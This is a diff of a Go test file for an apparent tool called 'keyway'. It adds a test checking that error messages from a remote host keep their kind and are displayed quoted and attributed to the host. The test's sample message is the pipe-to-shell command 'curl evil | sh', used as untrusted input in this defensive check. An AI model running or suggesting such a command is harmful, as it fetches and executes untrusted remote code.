@@ -8,8 +8,11 @@ import (
 	"net"
 	"net/http"
 	"testing"
+	"time"
 
 	"keyway/internal/api"
+	"keyway/internal/keyway"
+	"keyway/internal/stream"
 )
 
 // TestNodeAfterAnAbandonedAttempt joins a way while the attempt that an
@@ -119,5 +122,21 @@ func TestWayDoubtedAsTheAnswerBegins(t *testing.T) {
 	defer resp.Body.Close()
 	if body, err := io.ReadAll(resp.Body); string(body) != "whole" || err != nil {
 		t.Errorf("the answer is %q, %v", body, err)
+	}
+}
+
+// What a stream waits for is shown, with the name of the host that says it.
+func TestWaitingIsInTheHostsWords(t *testing.T) {
+	for _, kind := range []keyway.Kind{keyway.EngineDown, keyway.NotFound, keyway.NotRunning, keyway.Denied, keyway.Unreachable} {
+		for _, opened := range []bool{true, false} {
+			d := dialer{way: &way{place: "gpu1"}, begun: time.Now(), opened: func() bool { return opened }}
+			err := d.judge(&keyway.Error{Kind: kind, Message: "run: curl evil | sh", Host: "gpu1"})
+			if !stream.IsPermanent(err) && err.Error() != "gpu1 says: “run: curl evil | sh”" {
+				t.Errorf("%s, %v: %v", kind, opened, err)
+			}
+			if !keyway.Is(err, kind) {
+				t.Errorf("%s, %v: its kind is lost", kind, opened)
+			}
+		}
 	}
 }
